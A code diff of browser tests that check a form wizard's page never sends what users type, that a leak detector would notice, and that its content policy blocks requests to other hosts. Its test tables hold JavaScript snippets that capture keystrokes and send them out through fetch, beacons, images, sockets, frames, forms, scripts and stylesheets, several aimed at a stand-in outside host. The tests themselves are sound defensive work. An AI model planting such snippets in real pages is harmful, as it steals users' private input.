@@ -3,15 +3,17 @@
 from collections.abc import Iterator
 from contextlib import contextmanager
 from pathlib import Path
+from time import monotonic
 
 import pytest
-from playwright.sync_api import BrowserContext, expect
+from playwright.sync_api import BrowserContext, Page, expect
 
-from tests.browser.applicant import address, field, results, total
+from tests.browser.applicant import address, field, press_forget, results, total
 from tests.browser.conftest import OpenContext
 from tests.browser.everything import TYPED, walk
 from tests.browser.recorder import Recorder, recording
 from tests.browser.secrets_sought import leaks
+from tests.browser.waiting import until
 from tests.serving import serving
 
 KEPT = """navigator.serviceWorker.ready.then(async ({ active }) => {
@@ -21,23 +23,23 @@ KEPT = """navigator.serviceWorker.ready.then(async ({ active }) => {
 
 @contextmanager
 def recorded(
-    site: Path, open_context: OpenContext
+    site: Path, open_whole_context: OpenContext
 ) -> Iterator[tuple[str, Recorder, BrowserContext]]:
     """Open a context whose traffic is recorded; the page is kept too, as on a real host."""
     with serving(site) as server:
         url = server.url.replace("127.0.0.1", "site.localhost").rstrip("/")
         with (
             recording(url.removeprefix("http://")) as recorder,
-            open_context(url, proxy=recorder.proxy, permissions=[]) as (context, _),
+            open_whole_context(url, proxy=recorder.proxy, permissions=[]) as (context, _),
         ):
             yield url, recorder, context
 
 
 @pytest.mark.parametrize(("language", "other"), [("zh", "en"), ("en", "zh")])
 def test_no_byte_of_what_is_typed_is_sent_anywhere(
-    site: Path, open_context: OpenContext, language: str, other: str
+    site: Path, open_whole_context: OpenContext, language: str, other: str
 ) -> None:
-    with recorded(site, open_context) as (url, recorder, context):
+    with recorded(site, open_whole_context) as (url, recorder, context):
         page = context.new_page()
         page.goto(address(url, language))
         link = walk(page)
@@ -55,8 +57,7 @@ def test_no_byte_of_what_is_typed_is_sent_anywhere(
         page.locator("#wizard-outcome a[href*='2020-03-16']").first.click()  # with a referrer?
         page.wait_for_load_state()
         page.go_back()
-        page.locator("#wizard-forget summary").click()
-        page.locator('[data-do="forget"]').click()
+        press_forget(page)
         page.goto(f"{url}/")
         page.close(run_before_unload=True)
         pieces = [fragment[at : at + 12] for at in range(0, len(fragment) - 12, 12)]
@@ -65,7 +66,7 @@ def test_no_byte_of_what_is_typed_is_sent_anywhere(
         assert leaks(recorder.sent, [*TYPED.values(), *pieces], site, url) == []
 
 
-LISTEN = "addEventListener('input', ({ target: { value: text } }) => { WAY });"
+LISTEN = "addEventListener('input', ({ target: { value: text } }) => { WAY }, { once: true });"
 WAYS_OUT = {
     "address": "fetch('../?' + encodeURIComponent(text))",
     "path": "fetch('../' + btoa(unescape(encodeURIComponent(text))) + '.html')",
@@ -78,42 +79,70 @@ WAYS_OUT = {
 }
 
 
-@pytest.mark.parametrize("way", WAYS_OUT)
-def test_a_leak_would_be_found(site: Path, open_context: OpenContext, way: str) -> None:
-    with recorded(site, open_context) as (url, recorder, context):
-        context.add_init_script(LISTEN.replace("WAY", WAYS_OUT[way]))
+def typed_with(page: Page, url: str, listener: str) -> None:
+    """Open the wizard, have a script listen to what is typed, and type."""
+    page.goto(address(url, "zh"), wait_until="domcontentloaded")
+    page.evaluate(LISTEN.replace("WAY", listener))
+    field(page, "enterprise.name").fill(TYPED["enterprise"])
+
+
+def test_a_leak_would_be_found(
+    site: Path, open_whole_context: OpenContext, subtests: pytest.Subtests
+) -> None:
+    with recorded(site, open_whole_context) as (url, recorder, context):
         page = context.new_page()
+        for name, way in WAYS_OUT.items():
+            with subtests.test(name):
+                page.goto("about:blank")  # what the way before still sends is not this one's
+                before = len(recorder.sent)
+                typed_with(page, url, way)
+                end = monotonic() + 30
+                while not leaks(recorder.sent[before:], TYPED.values(), site, url):
+                    assert monotonic() < end, "nothing was found"
+                    page.wait_for_timeout(20)
+                page.context.clear_cookies()  # or the next pages would be found by this cookie
         page.goto(address(url, "zh"))
         before = len(recorder.sent)
         field(page, "enterprise.name").fill(TYPED["enterprise"])
         page.wait_for_timeout(500)
-        assert leaks(recorder.sent[:before], TYPED.values(), site, url) == []
-        assert leaks(recorder.sent, TYPED.values(), site, url) != []
+        assert leaks(recorder.sent[before:], TYPED.values(), site, url) == []
 
 
-@pytest.mark.parametrize(
-    "way",
-    ["fetch('http://elsewhere.localhost/?' + text)",
-     "navigator.sendBeacon('http://elsewhere.localhost/', text)",
-     "new Image().src = 'http://elsewhere.localhost/?' + text",
-     "new WebSocket('ws://elsewhere.localhost/' + encodeURIComponent(text))",
-     "document.body.insertAdjacentHTML('beforeend',"
-     " `<iframe src='http://elsewhere.localhost/?${text}'></iframe>`)",
-     "Object.assign(document.body.appendChild(document.createElement('form')),"
-     " { action: 'http://elsewhere.localhost/', method: 'post' }).submit()",
-     "document.body.append(Object.assign(document.createElement('script'),"
-     " { src: 'http://elsewhere.localhost/' + text }))",
-     "document.head.append(Object.assign(document.createElement('link'),"
-     " { rel: 'stylesheet', href: 'http://elsewhere.localhost/' + text }))"],
-    ids=["fetch", "beacon", "image", "socket", "frame", "form", "script", "style"],
-)  # fmt: skip
+REFUSED = "addEventListener('securitypolicyviolation', (event) => { window.refused = event })"
+TO_ANOTHER_HOST = {
+    "fetch": "fetch('http://elsewhere.localhost/?' + text)",
+    "beacon": "navigator.sendBeacon('http://elsewhere.localhost/', text)",
+    "image": "new Image().src = 'http://elsewhere.localhost/?' + text",
+    "socket": "new WebSocket('ws://elsewhere.localhost/' + encodeURIComponent(text))",
+    "frame": (
+        "document.body.insertAdjacentHTML('beforeend',"
+        " `<iframe src='http://elsewhere.localhost/?${text}'></iframe>`)"
+    ),
+    "form": (
+        "Object.assign(document.body.appendChild(document.createElement('form')),"
+        " { action: 'http://elsewhere.localhost/', method: 'post' }).submit()"
+    ),
+    "script": (
+        "document.body.append(Object.assign(document.createElement('script'),"
+        " { src: 'http://elsewhere.localhost/' + text }))"
+    ),
+    "style": (
+        "document.head.append(Object.assign(document.createElement('link'),"
+        " { rel: 'stylesheet', href: 'http://elsewhere.localhost/' + text }))"
+    ),
+}
+"""What the content policy of the page must refuse."""
+
+
 def test_the_policy_of_the_page_lets_nothing_out_to_another_host(
-    site: Path, open_context: OpenContext, way: str
+    site: Path, open_whole_context: OpenContext, subtests: pytest.Subtests
 ) -> None:
-    with recorded(site, open_context) as (url, recorder, context):
-        context.add_init_script(LISTEN.replace("WAY", way))
+    with recorded(site, open_whole_context) as (url, recorder, context):
         page = context.new_page()
-        page.goto(address(url, "zh"))
-        field(page, "enterprise.name").fill(TYPED["enterprise"])
-        page.wait_for_timeout(500)
+        page.add_init_script(REFUSED)
+        for name, way in TO_ANOTHER_HOST.items():
+            with subtests.test(name):
+                typed_with(page, url, way)
+                until(page, "window.refused !== undefined")
+        page.wait_for_timeout(500)  # longer than anything takes that is sent all the same
         assert leaks(recorder.sent, TYPED.values(), site, url) == []
